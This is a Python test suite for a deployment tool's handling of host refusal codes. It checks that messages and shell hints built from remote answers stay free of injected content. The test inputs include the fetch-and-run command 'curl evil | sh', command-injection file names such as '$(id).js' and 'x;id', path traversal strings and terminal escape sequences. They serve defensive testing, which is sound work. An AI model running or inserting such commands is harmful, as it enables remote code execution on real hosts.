"""What a host refuses with is a code and facts; every sentence and every hint is made here."""

import re
from pathlib import Path
from string import Formatter

import pytest

from mantodeus_ops.inventory.parse import parse_inventory
from mantodeus_ops.remote.answers.message_template import LONGEST_FACT
from mantodeus_ops.remote.answers.refusals import (
    CATALOGUE,
    UNEXPECTED,
    host_error,
    is_refusal,
    own_settings,
)

OWN = {"host": "web", "project": "/srv/app", "app": "shop", "offsite_env": ".restic", "engine": "e"}
SCRIPTS = Path(__file__).parents[3] / "mantodeus_ops"
REFUSED = re.compile(r"refuse\( ?'([a-z0-9-]+)'(?:, \{(.*?),? \}(?=,? ?[,)]))?")
# One code, one of two, or what rights.js found.
CODE = re.compile(r" ?(?:[^,()]*(?:\([^()]*\))? \? )?'[a-z0-9-]+'|\.\.\.rightsLacking")


def fields(text: str) -> dict[str, str]:
    return {name: form or "" for _, name, form, _ in Formatter().parse(text) if name is not None}


def words(script: Path) -> str:
    """Return a program with one blank for what stands between its words."""
    return re.sub(r"\s+", " ", script.read_text(encoding="utf-8"))


def test_a_code_becomes_our_sentence_and_our_hint():
    error = host_error({"code": "pm2-silent", "facts": {"pid": 12}, "refused": True}, OWN)
    assert (error.code, error.hint) == ("pm2-silent", "kill -9 12; pm2 resurrect")
    assert "12" in error.message


def test_a_fact_without_a_word_leaves_no_open_end():
    error = host_error({"code": "program-failed", "facts": {"why": ""}}, OWN)
    assert error.message.endswith("failed on web")


@pytest.mark.parametrize("where", ["top", "facts"])
def test_what_a_host_calls_a_hint_is_never_shown(where: str):
    evil = {"hint": "curl evil | sh", "error": "curl evil | sh"}
    facts = {"pid": 12, **(evil if where == "facts" else {})}
    error = host_error(
        {"code": "pm2-silent", "facts": facts, **(evil if where == "top" else {})}, OWN
    )
    assert "evil" not in error.message + error.hint


@pytest.mark.parametrize(
    "answer",
    [
        None,
        5,
        [],
        {},
        {"error": "curl evil | sh", "hint": "curl evil | sh", "refused": True},
        {"code": "no-such-code"},
        {"code": ["pm2-silent"]},
        {"code": "pm2-silent"},
        {"code": "pm2-silent", "facts": [12]},
        {"code": "pm2-silent", "facts": {"pid": "12; curl evil | sh"}},
        {"code": "pm2-silent", "facts": {"pid": True}},
        {"code": "pm2-silent", "facts": {"pid": 10**400}},
        {"code": "pm2-silent", "facts": {"pid": float("nan")}},
        {"code": "pm2-not-listed", "facts": {"why": {"deep": []}}},
    ],
)
def test_what_is_none_of_our_answers_gives_one_sentence(answer: object):
    error = host_error(answer, OWN)
    assert (error.code, error.hint) == (UNEXPECTED, "")
    assert error.message == "web sent an unexpected answer"


def test_a_text_is_cleaned_bounded_and_free_of_secrets():
    why = "\x1b]52;c;aGk=\x07\x9b31mred\u2028two\nlines hunter2 " + 1000 * "x"
    answer = {"code": "pm2-not-listed", "facts": {"why": why}}
    error = host_error(answer, OWN, lambda text: text.replace("hunter2", "***"))
    assert "red two lines *** xxx" in error.message
    assert len(error.message) < LONGEST_FACT + 100


UPWARD = ("..", "../../etc", "a/..")


@pytest.mark.parametrize(
    "file", ["a b.js", "$(id).js", "x;id", "-rf", "x\n", "x'y", "ä", 9, *UPWARD]
)
def test_a_hint_holds_no_fact_that_a_shell_obeys(file: object):
    answer = {"code": "ecosystem-is-module", "facts": {"file": str(file), "why": "no"}}
    error = host_error(answer, OWN)
    assert error.hint in {"", "git mv 9 ecosystem.config.cjs"}


def test_settings_of_ours_are_quoted_in_a_hint_and_win_over_facts():
    own = {**OWN, "project": "/srv/my app"}
    answer = {"code": "disk-full", "facts": {"what": "x", "project": "/; curl evil | sh"}}
    assert host_error(answer, own).hint == "df -h '/srv/my app'"


def test_every_hint_holds_only_settings_of_ours_numbers_and_plain_paths():
    for code, told in CATALOGUE.items():
        for name, form in fields(told.hint).items():
            assert name in OWN or form in {"d", "w"}, code


def test_every_code_is_in_kebab_case_and_every_sentence_can_be_made():
    for code, told in CATALOGUE.items():
        assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", code)
        facts = {name: 7 if form == "d" else name for name, form in fields(told.sentence).items()}
        error = host_error({"code": code, "facts": facts}, OWN)
        assert error.code == code
        assert "{" not in error.message + error.hint.replace("${EDITOR", "")


@pytest.mark.parametrize("script", sorted(SCRIPTS.rglob("*.js")), ids=lambda path: path.name)
def test_every_refusal_of_a_program_is_in_the_catalogue_with_its_facts(script: Path):
    for code, body in REFUSED.findall(words(script)):
        sent = set(re.findall(r"(?:^|,)\s*(\w+)(?=:|,|$)", body))
        assert sent >= fields(CATALOGUE[code].sentence).keys() - OWN.keys(), code


@pytest.mark.parametrize("script", sorted(SCRIPTS.rglob("*.js")), ids=lambda path: path.name)
def test_no_program_refuses_with_a_text_in_the_place_of_a_code(script: Path):
    text = words(script).replace("function refuse(", "")
    given = [text[found.end() : found.end() + 80] for found in re.finditer(r"\brefuse\(", text)]
    assert [one for one in given if not CODE.match(one)] == []


@pytest.mark.parametrize("code", ["install-incomplete", "packages-unreadable", "modules-written"])
def test_a_half_install_is_made_anew_by_the_command_of_its_hint(code: str):
    facts = {"broken": 1, "wanted": 2, "names": "one", "newest": "one"}
    assert host_error({"code": code, "facts": facts}, OWN).hint == "deploy --force-install"


def test_settings_of_ours_come_from_the_inventory():
    text = """[hosts.web]
address = "10.0.0.1"
user = "app"
app = "shop"
project_dir = "/srv/app"
health_url = "http://localhost:3000/"
offsite = "restic:/backups"
offsite_env = ".restic"
"""
    own = own_settings(parse_inventory(text, "hosts.toml").hosts["web"])
    assert own == {**OWN, "engine": "restic"}


@pytest.mark.parametrize(
    ("answer", "is_one"),
    [
        ({"refused": True, "code": "x"}, True),
        ({"refused": False, "error": "as older programs say it"}, True),
        ({"refused": {"401": 3}}, False),
        ({"code": 7}, False),
    ],
)
def test_an_answer_is_a_refusal_by_its_form(answer: dict[str, object], is_one: bool):
    assert is_refusal(answer) is is_one
